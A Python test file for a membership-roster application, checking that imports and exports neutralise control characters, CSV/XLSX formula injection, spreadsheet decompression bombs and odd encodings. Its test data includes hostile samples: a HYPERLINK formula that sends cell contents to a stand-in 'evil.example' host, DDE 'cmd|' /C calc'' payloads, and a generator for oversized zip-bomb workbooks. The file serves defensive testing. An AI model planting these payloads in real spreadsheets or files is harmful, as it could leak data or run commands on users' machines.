"""Input that breaks things for others (issue 10): control characters, formula injection,
spreadsheet bombs, odd encodings. Each value is cleaned at entry, and every export writes
stored values safely even if they were stored before the cleaning existed."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from dataclasses import replace
from datetime import date

import pytest
from openpyxl import load_workbook

from chibo.storage import members as store
from chibo.storage import orgs as org_store
from chibo.usecases import orgs as orgs_uc
from chibo.usecases import report_chart, report_xlsx, roster, roster_io
from chibo.usecases import status as status_uc
from chibo.usecases.errors import InvalidInput
from chibo.usecases.i18n import translator

from .helpers import demo_tree
from .test_status import build_world

HEADER = "Họ và tên,Ngày sinh,Giới tính,Trạng thái,Ngày trạng thái"
TODAY = date(2026, 11, 23)


@pytest.fixture
async def cell(ctx) -> int:
    await demo_tree(ctx)
    return (await orgs_uc.get_org(ctx, "C1")).id


async def names(ctx, cell) -> list[str]:
    async with ctx.db.read() as tx:
        return sorted(m.full_name for m in await store.of_org(tx, cell))


async def plant(ctx, cell, *full_names: str) -> None:
    """Values stored before cleaning existed (or by another channel), straight into storage."""
    async with ctx.db.transaction() as tx:
        for name in full_names:
            f = store.MemberFields(
                full_name=name, birth_date=date(1970, 1, 1), status_date=date(1990, 1, 1)
            )
            await store.insert(tx, org_id=cell, f=f, name_key=name.lower(), at=ctx.now())


def message(exc: InvalidInput) -> str:
    return exc.msg.key.format(**exc.msg.params)


# -- control and format characters ---------------------------------------------------------------


async def test_control_characters_in_a_csv_are_removed_at_import(ctx, cell):
    data = (
        f"{HEADER}\nNguy\x1bễn Văn\x07 An\x00,15/01/1960,Nam,Chính thức,01/01/1990\n"
        "\u202eTrần\u200b Thị Bình,02/07/1975,Nữ,Chính thức,01/01/2000\n"
    )
    report = await roster.import_file(
        ctx, actor="cli", org_id=cell, data=data.encode(), filename="a.csv"
    )
    assert report.errors == [] and report.created == 2
    assert await names(ctx, cell) == ["Nguyễn Văn An", "Trần Thị Bình"]


async def test_control_characters_typed_in_a_form_are_removed(ctx, cell):
    f = store.MemberFields(
        full_name="Lê\x1b Văn\u202e Cường\x00",
        birth_date=date(1980, 1, 1),
        status_date=date(2010, 1, 1),
    )
    member = await roster.add_member(ctx, actor="cli", org_id=cell, f=f)
    assert member.full_name == "Lê Văn Cường"
    # what an escape sequence leaves behind is not a name (issue 9 §5: letters only)
    with pytest.raises(InvalidInput):
        await roster.add_member(
            ctx, actor="cli", org_id=cell, f=replace(f, full_name="Lê\x1b[31m Văn Cường")
        )
    with pytest.raises(InvalidInput):  # nothing left but control characters: empty
        await roster.add_member(
            ctx,
            actor="cli",
            org_id=cell,
            f=store.MemberFields(full_name="\x1b\x07\u200b", birth_date=date(1980, 1, 1)),
        )


def test_a_chat_answer_is_cleaned():
    assert roster_io.read_value("card_no", "79.0\x1b00001", TODAY, "Số thẻ") == "79.000001"


async def test_org_names_are_cleaned(ctx):
    org = await orgs_uc.add_org(ctx, actor="cli", code="Z", name="Chi bộ\x07 \u202eZ")
    assert org.name == "Chi bộ Z"


async def test_exports_never_fail_on_a_stored_control_character(ctx, cell):
    await plant(ctx, cell, "Nguyễn\x1b Văn\x07 An\x00", "Trần\x0b Thị\ufffe Bình")
    xlsx = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="xlsx")
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    assert sorted(r[0] for r in ws.iter_rows(min_row=2, values_only=True)) == [
        "Nguyễn Văn An",
        "Trần Thị Bình",
    ]
    exported = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="csv")
    assert "\x1b" not in exported.data.decode("utf-8-sig")


# -- formula injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_xlsx_export_writes_formulas_as_text(ctx, cell):
    await plant(ctx, cell, *FORMULAS)
    xlsx = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="xlsx")
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}


async def test_csv_export_quotes_formulas_and_reimports_them_unchanged(ctx, cell):
    await plant(ctx, cell, *FORMULAS, "\tTab", "Nguyễn Văn An")
    exported = await roster.export_roster(ctx, actor="cli", org_id=cell, fmt="csv")
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    first = sorted(r[0] for r in rows[1:])
    assert all(v.startswith("'") for v in first if v[1:2] in "=+-@\t" and v != "Nguyễn Văn An")
    assert "Nguyễn Văn An" in first
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in first)
    parsed = roster_io.parse_file(exported.data, "x.csv", TODAY)
    got = sorted(r.values["full_name"] for r in parsed.rows)
    assert got == sorted([*FORMULAS, "Tab", "Nguyễn Văn An"])


@pytest.fixture
async def report_world(ctx, clock):
    await build_world(ctx, clock)
    return ctx


async def test_report_writes_a_cell_named_like_a_formula_as_text(report_world):
    ctx = report_world
    async with ctx.db.transaction() as tx:
        x = await org_store.by_code(tx, "X")
        assert x is not None
        await org_store.insert(
            tx,
            code="EVIL",
            name='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")\x1b',
            kind="cell",
            parent_id=x.id,
            at=ctx.now(),
        )
    data = await status_uc.report(ctx, "cli", code="X")
    wb = load_workbook(io.BytesIO(report_xlsx.build(data, translator("vi"))))
    found = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert found and {c.data_type for c in found} == {"s"}
    assert all("\x1b" not in c.value for c in found)
    assert report_chart.heat_map(data, translator("vi")).startswith(b"\x89PNG")


# -- spreadsheet bombs ---------------------------------------------------------------------------

_WORKBOOK = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}


def xlsx(rows, *, padding: int = 0) -> bytes:
    """A minimal XLSX whose first sheet holds `rows` (an iterable of XML text for
    <sheetData>), generated in pieces so a big sheet never sits in memory;
    `padding` bytes of whitespace make it big when unpacked."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in _WORKBOOK.items():
            zf.writestr(name, text)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            out.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            for piece in rows:
                out.write(piece.encode())
            block = b" " * (1 << 20)
            for _ in range(padding >> 20):
                out.write(block)
            out.write(b"</sheetData></worksheet>")
    return buf.getvalue()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row() -> str:
    return f'<row r="1">{inline("A1", "Họ và tên")}{inline("B1", "Ngày sinh")}</row>'


def test_a_minimal_generated_workbook_is_read():
    data = xlsx([header_row(), f'<row r="2">{inline("A2", "Lê Văn An")}</row>'])
    table = roster_io.read_table(data, "a.xlsx")
    assert [r.cells for r in table.rows] == [{"full_name": "Lê Văn An"}]


def refusal(data: bytes, name: str = "bomb.xlsx") -> str:
    with pytest.raises(InvalidInput) as exc:
        roster_io.read_table(data, name)
    return message(exc.value)


def test_a_huge_cell_is_refused_naming_the_cell_limit():
    big = "A" * (roster_io.MAX_CELL_CHARS + 1)
    data = xlsx([header_row(), f'<row r="2">{inline("A2", big)}</row>'])
    assert len(data) < 20_000
    text = refusal(data)
    assert str(roster_io.MAX_CELL_CHARS) in text and "characters" in text


def test_a_file_too_big_when_unpacked_is_refused_before_unpacking():
    data = xlsx([header_row()], padding=roster_io.MAX_UNPACKED_BYTES + (1 << 20))
    assert len(data) < 500_000
    assert "MB" in refusal(data) and "unpacked" in refusal(data)


def test_too_many_rows_are_refused_naming_the_row_limit():
    n = roster_io.MAX_SHEET_ROWS + 1
    rows = (f'<row r="{i}">{inline(f"A{i}", "x")}</row>' for i in range(2, n + 1))
    text = refusal(xlsx([header_row(), *rows]))
    assert str(roster_io.MAX_SHEET_ROWS) in text and "rows" in text
    # a single value far down the sheet counts as that many rows (openpyxl would walk them all)
    far = f'<row r="1000000">{inline("A1000000", "x")}</row>'
    assert "rows" in refusal(xlsx([header_row(), far]))


def test_too_many_columns_are_refused_naming_the_column_limit():
    wide = f'<row r="2">{inline("XFD2", "x")}</row>'
    text = refusal(xlsx([header_row(), wide]))
    assert f"{roster_io.MAX_COLUMNS}" in text and "columns" in text


def test_csv_limits():
    long = "Họ và tên,Ngày sinh\n" + "A" * (roster_io.MAX_CELL_CHARS + 1) + ",01/01/1970\n"
    assert "characters" in refusal(long.encode(), "a.csv")
    huge = "Họ và tên,Ngày sinh\n" + "B" * 200_000 + ",01/01/1970\n"
    assert "characters" in refusal(huge.encode(), "a.csv")
    many = "Họ và tên,Ngày sinh\n" + "x,01/01/1970\n" * (roster_io.MAX_SHEET_ROWS + 1)
    assert "more than 20000 members" in refusal(many.encode(), "a.csv")
    wide = "Họ và tên,Ngày sinh" + ",x" * roster_io.MAX_COLUMNS + "\n"
    assert "columns" in refusal(wide.encode(), "a.csv")


def test_reading_a_big_cell_bomb_stays_small_in_memory():
    """40 MB of one inline string under the unpacked limit: scanned in pieces, refused."""
    import tracemalloc

    size = min(40 << 20, roster_io.MAX_UNPACKED_BYTES - (1 << 20))

    def rows():
        yield header_row()
        yield '<row r="2"><c r="A2" t="inlineStr"><is><t>'
        chunk = "A" * (1 << 20)
        for _ in range(size >> 20):
            yield chunk
        yield "</t></is></c></row>"

    data = xlsx(rows())
    tracemalloc.start()
    try:
        assert "characters" in refusal(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 30 << 20


def test_too_many_cells_are_refused(monkeypatch):
    from chibo.usecases import file_limits

    monkeypatch.setattr(file_limits, "MAX_CELLS", 100)
    rows = (
        f'<row r="{i}">{inline(f"A{i}", "x")}{inline(f"B{i}", "y")}</row>' for i in range(2, 60)
    )
    assert "100 filled cells" in refusal(xlsx([header_row(), *rows]))


# -- encodings, headers, empty files -------------------------------------------------------------

UNICODE_TEXT = "Họ và tên\tNgày sinh\tGiới tính\r\nLê Văn An\t15/01/1960\tNam\r\n"


@pytest.mark.parametrize(
    "data",
    [
        UNICODE_TEXT.encode("utf-16"),  # Excel's "Unicode Text": BOM + little-endian
        codecs.BOM_UTF16_BE + UNICODE_TEXT.encode("utf-16-be"),
        UNICODE_TEXT.encode("utf-16-le"),  # without the mark
    ],
)
def test_utf16_files_are_read(data):
    table = roster_io.read_table(data, "ds.txt")
    assert [r.cells for r in table.rows] == [
        {"full_name": "Lê Văn An", "birth_date": "15/01/1960", "gender": "Nam"}
    ]


def test_a_damaged_utf16_file_is_refused_as_such():
    data = UNICODE_TEXT.encode("utf-16") + b"\x00\xd8"  # a lone surrogate at the end
    assert "UTF-16" in refusal(data, "ds.txt")


def test_a_duplicated_header_is_reported():
    data = "Họ và tên,Ngày sinh,Sinh ngày\nLê Văn An,15/01/1960,16/01/1960\n".encode()
    text = refusal(data, "a.csv")
    assert "Ngày sinh" in text and "Sinh ngày" in text and "twice" in text


def test_a_file_with_no_member_rows_is_not_all_correct():
    text = refusal("Họ và tên,Ngày sinh\n,\n".encode(), "a.csv")
    assert "no member rows" in text
    assert "no member rows" in refusal(xlsx([header_row()]))


async def test_a_telegram_name_is_cleaned_when_stored(ctx):
    from chibo.usecases import users as users_uc

    profile = await users_uc.seen(
        ctx, tg_id=77, full_name="\u202eAn\x1b Lê\u200b", username=None, tg_language="vi"
    )
    assert profile.user.full_name == "An Lê"
